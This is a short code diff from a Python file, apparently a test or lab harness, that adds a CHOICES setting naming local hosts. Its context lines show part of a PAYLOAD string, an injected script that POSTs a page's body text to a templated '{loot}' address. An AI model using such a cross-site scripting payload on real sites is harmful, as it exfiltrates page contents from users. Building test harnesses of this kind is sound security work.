@@ -30,6 +30,7 @@ PAYLOAD = (
     'r.open("POST", "{loot}", false); r.send(document.body.innerText)\'>'
 )
 PATIENCE_SECONDS = 20.0
+CHOICES = {"host": ("127.0.0.1", "localhost"), "series": ("alone", "without")}
 
 
 @dataclass
